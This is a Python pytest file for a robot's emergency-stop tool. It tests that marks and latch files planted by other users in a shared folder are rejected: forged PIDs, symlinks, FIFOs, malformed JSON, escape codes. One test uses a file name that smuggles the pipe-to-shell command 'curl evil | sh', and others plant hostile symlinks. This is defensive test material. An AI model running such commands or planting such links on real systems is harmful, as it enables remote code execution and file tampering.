"""Marks and latches that somebody else has put into the shared folder: they are not believed, and nothing is made of
them."""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from snake_gym.config import ConfigError
from snake_gym.hardware.__main__ import main
from snake_gym.hardware.bus.clock import MonotonicClock
from snake_gym.hardware.calibration.calibration import straight_chain
from snake_gym.hardware.commands import estop
from snake_gym.hardware.emulator.bus import EmulatedBus, EmulatedServo
from snake_gym.hardware.emulator.port import EmulatedPort
from snake_gym.hardware.run.record import RecordWriter
from snake_gym.hardware.safety import emergency_stop
from snake_gym.hardware.safety.emergency_stop import EmergencyStop, find_marks
from snake_gym.robot.presets import PRESETS
from tests.hardware.rig import ending

NOBODY = 65534
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="takes root to be two users")

STRANGER = """
import fcntl, json, os, signal, sys, time
path, latch, pid = sys.argv[1:]
os.setgroups([]); os.setgid(65534); os.setuid(65534)
descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
fcntl.flock(descriptor, fcntl.LOCK_EX)
os.write(descriptor, json.dumps({"pid": int(pid) or os.getpid(), "what": "run", "latch": latch}).encode())
def end(*_):
    os.unlink(path)
    os._exit(7)
signal.signal(signal.SIGTERM, end)
print("there", flush=True)
time.sleep(120)
"""
"""Another user with torque on, who obeys a signal: planted at PATH, for LATCH, in the name of PID (0: its own)."""


@pytest.fixture
def shared(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder as /tmp is: everybody may write."""
    with tempfile.TemporaryDirectory(prefix="shared-") as name:
        folder = Path(name)
        folder.chmod(0o1777)
        monkeypatch.setattr(emergency_stop, "FOLDER", folder)
        monkeypatch.setattr("snake_gym.hardware.safety.emergency_stop.default_latch", lambda: folder / "usual")
        yield folder


@contextmanager
def stranger(path: Path, latch: Path, pid: int = 0) -> Iterator[subprocess.Popen[str]]:
    command = [sys.executable, "-c", STRANGER, str(path), str(latch), str(pid)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process, ending(process):
        assert process.stdout is not None
        assert process.stdout.readline() == "there\n"
        yield process


@AS_ROOT
@pytest.mark.parametrize("open_to_all", [True, False])
def test_root_s_estop_makes_nothing_where_another_user_s_mark_says(
    shared: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], open_to_all: bool
) -> None:
    target = (shared if open_to_all else tmp_path) / "of-root"
    with stranger(shared / "snake_gym-torque-1-1.json", target) as robot:
        code = main(["estop", "--wait", "20"])
        told = capsys.readouterr().out
        assert code == 0, told
        assert robot.wait(20) == 7, "it was told by a signal"
    assert not os.path.lexists(target)
    assert sorted(path.name for path in shared.iterdir()) == ["usual"]
    assert f"run (process {robot.pid}) of user" in told and "torque is off in all servos" in told


@AS_ROOT
def test_a_mark_in_the_name_of_another_user_s_process_is_not_believed(
    shared: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with stranger(shared / "snake_gym-torque-1-1.json", tmp_path / "of-root", os.getpid()) as robot:
        assert find_marks() == []
        assert main(["estop", "--wait", "0"]) == 0
        assert robot.poll() is None
    assert not (tmp_path / "of-root").exists()
    assert "nothing was moving" in capsys.readouterr().out


@AS_ROOT
def test_whoever_may_not_stop_another_user_s_robot_says_so(shared: Path) -> None:
    program = "import os, sys; from pathlib import Path; from snake_gym.hardware.safety import emergency_stop\n"
    program += "from snake_gym.hardware.__main__ import main\n"
    program += "folder = Path(sys.argv[1]); emergency_stop.FOLDER = folder\n"
    program += "emergency_stop.default_latch = lambda: folder / 'usual'\n"
    program += "os.setgroups([]); os.setgid(65534); os.setuid(65534)\n"
    program += "sys.exit(main(['estop', '--wait', '0']))"
    stop = EmergencyStop(shared / "of-root")
    stop.hold("wiggle")
    done = subprocess.run([sys.executable, "-c", program, str(shared)], capture_output=True, text=True, check=False)
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"NOT stopped: wiggle (process {os.getpid()}) of user root obeys {shared}/of-root" in done.stdout
    assert not (shared / "of-root").exists()
    stop.release()


@AS_ROOT
def test_clearing_shows_no_command_that_another_user_has_written(
    shared: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    latch = shared / "x; curl evil | sh"
    latch.touch()
    with stranger(shared / "snake_gym-torque-1-1.json", latch) as robot:
        lie = shared / "snake_gym-torque-2-2.json"
        lie.write_text(json.dumps({"pid": robot.pid, "what": "it is safe: type evil", "latch": str(latch)}))
        os.chown(lie, NOBODY, NOBODY)
        assert len(find_marks()) == 2
        assert main(["estop", "--clear", "--latch", str(shared / "ours")]) == 0
        told = capsys.readouterr().out
        assert "evil" not in told and "curl" not in told, told
        assert f"run (process {robot.pid}) of user" in told and "stopped by another latch: that user clears it" in told
        assert main(["estop", "--wait", "0", "--latch", str(latch)]) == 1
        told = capsys.readouterr().out
        assert f"something (process {robot.pid}) of user" in told and "safe" not in told, told


def test_our_own_latch_is_written_as_a_shell_reads_it(shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
    stop = EmergencyStop(shared / "second robot")
    stop.hold("run")
    stop.trip("test")
    assert main(["estop", "--clear"]) == 0
    assert f"estop --clear --latch '{shared}/second robot'" in capsys.readouterr().out
    stop.release()


def test_what_is_no_plain_file_is_passed_by(shared: Path, tmp_path: Path) -> None:
    told = json.dumps({"pid": os.getpid(), "what": "run", "latch": str(tmp_path / "estop")})
    (tmp_path / "elsewhere").write_text(told)
    os.mkfifo(shared / "snake_gym-torque-fifo.json")
    (shared / "snake_gym-torque-folder.json").mkdir()
    (shared / "snake_gym-torque-link.json").symlink_to(tmp_path / "elsewhere")
    (shared / "snake_gym-torque-escape.json").write_text(told.replace("run", "\\u001b[2J"))
    (shared / "snake_gym-torque-pid.json").write_text(told.replace(f"{os.getpid()}", "-1"))
    assert find_marks() == []


def test_a_mark_is_where_nobody_can_wait_for_it(shared: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("kept")
    for number in range(200):  # names that a process of this number might choose
        (shared / f"snake_gym-torque-{os.getpid()}-{number}.draft").symlink_to(victim)
    stops = [EmergencyStop(tmp_path / f"estop{k}") for k in range(3)]
    for stop in stops:
        stop.hold("run")
    assert victim.read_text() == "kept"
    assert sorted(mark.latch for mark in find_marks()) == [stop.latch for stop in stops]
    names = [mark.path.name for mark in find_marks()]
    assert not any(str(os.getpid()) in name for name in names), names
    for mark in find_marks():
        assert stat.S_IMODE(mark.path.stat().st_mode) == 0o644
    for stop in stops:
        stop.release()
    assert find_marks() == []


def test_a_latch_that_is_a_pipe_is_tripped_and_keeps_nobody_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "estop")
    stop = EmergencyStop(tmp_path / "estop")

    def too_long(number: int, frame: object) -> None:
        raise AssertionError("it waits for somebody to write")

    before = signal.signal(signal.SIGALRM, too_long)
    signal.alarm(20)
    try:
        assert stop.tripped
        assert "cannot be read (it is no plain file)" in stop.reason
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


def test_the_trial_of_a_latch_follows_no_link(tmp_path: Path) -> None:
    (tmp_path / f"estop.{os.getpid()}.trial").symlink_to(tmp_path / "made")
    assert EmergencyStop(tmp_path / "estop").writable()
    assert not (tmp_path / "made").exists()


PLANTED = {
    "deep": "[" * 60000,
    "infinite": '{"pid": 1e400, "what": "run", "latch": "/none"}',
    "too-great": '{"pid": 99999999999999999999, "what": "run", "latch": "/none"}',
    "long": '{"pid": 1, "what": "run", "latch": "/none"}' + " " * 70000,
    "digits": '{"pid": ' + "9" * 60000 + "}",
    "list": '[["pid"]]',
    "surrogate": '{"pid": 1, "what": "\\ud800", "latch": "/none"}',
}
"""What is no mark, whatever it looks like."""


@pytest.mark.parametrize("what", PLANTED)
def test_a_file_that_is_no_mark_keeps_nobody_from_stopping(
    shared: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    (shared / "snake_gym-torque-0000000000000000.json").write_text(PLANTED[what])
    assert find_marks() == []
    for latch in ([], ["--latch", str(shared / "second_robot")]):
        assert main(["estop", *latch]) == 0
        assert "nothing was moving" in capsys.readouterr().out
        assert main(["estop", "--status", *latch]) == 1
        assert main(["estop", "--clear", *latch]) == 0
        assert main(["estop", "--status", *latch]) == 0
    stop = EmergencyStop(shared / "third_robot")
    stop.hold("run")
    assert [mark.latch for mark in find_marks()] == [stop.latch]
    stop.release()


@pytest.mark.parametrize("told", ["[" * 200000, "[" * 60000, "[" * 500 + "]" * 500, "1e400", ""])
def test_a_latch_that_holds_anything_is_tripped_and_can_be_cleared(
    shared: Path, capsys: pytest.CaptureFixture[str], told: str
) -> None:
    (shared / "usual").write_text(told)
    assert EmergencyStop().reason == "tripped by hand"
    assert main(["estop"]) == 0
    assert main(["estop", "--status"]) == 1
    assert main(["estop", "--clear"]) == 0
    assert not (shared / "usual").exists()


def test_the_latch_is_tripped_whatever_becomes_of_the_marks(shared: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class TooLate(Exception):
        pass

    def look(*_: object) -> list[emergency_stop.TorqueMark]:
        raise TooLate

    monkeypatch.setattr(emergency_stop, "_look_at", look)
    monkeypatch.setattr(estop, "find_marks", look)
    with pytest.raises(TooLate):
        main(["estop"])
    assert (shared / "usual").exists()


def test_of_a_user_s_many_marks_some_are_looked_at_and_estop_says_so(
    shared: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    told = json.dumps({"pid": os.getpid(), "what": "run", "latch": str(shared / "usual")})
    for number in range(300):
        (shared / f"snake_gym-torque-{number:016d}.json").write_text(told)
    opened = []
    look_at = emergency_stop._look_at

    def counted(path: Path) -> emergency_stop.TorqueMark:
        opened.append((path, (shared / "usual").exists()))
        return look_at(path)

    monkeypatch.setattr(emergency_stop, "_look_at", counted)
    assert len(find_marks()) == 100
    opened.clear()
    assert main(["estop", "--wait", "0"]) == 1
    assert sum(not tripped for _, tripped in opened) <= 8, "hardly any before the latch"
    assert "more than 100 marks; the others were not looked at" in capsys.readouterr().out


@AS_ROOT
def test_another_user_s_many_marks_do_not_hide_those_that_count(shared: Path) -> None:
    for number in range(300):
        path = shared / f"snake_gym-torque-{number:016d}.json"
        path.write_text(json.dumps({"pid": 1, "what": "run", "latch": "/none"}))
        os.chown(path, NOBODY, NOBODY)
    stop = EmergencyStop(shared / "ours")
    stop.hold("run")
    try:
        assert [mark.latch for mark in find_marks() if mark.uid == os.geteuid()] == [stop.latch]
    finally:
        stop.release()


def test_no_file_is_made_where_a_planted_link_points(shared: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Logs, the lock of an emulator's port and drafts of other files, in a folder where everybody may write."""
    target = shared / "of-somebody-else"
    for name in ("run.jsonl.partial", "bus.lock", f".snake.json.{'00' * 8}.tmp"):
        (shared / name).symlink_to(target)
    with pytest.raises(ConfigError, match="cannot be written"):
        RecordWriter(shared / "run.jsonl", PRESETS["resilient_servo"], None, {})
    with pytest.raises(ConfigError, match="cannot be made"), serve_at(shared / "bus"):
        pass
    monkeypatch.setattr("os.urandom", bytes)  # zeros: it has been guessed
    with pytest.raises(FileExistsError):
        straight_chain([1], 1.0).save(shared / "snake.json")
    assert not os.path.lexists(target)


def serve_at(link: Path) -> EmulatedPort:
    return EmulatedPort(EmulatedBus([EmulatedServo(1)], clock=MonotonicClock()), link)
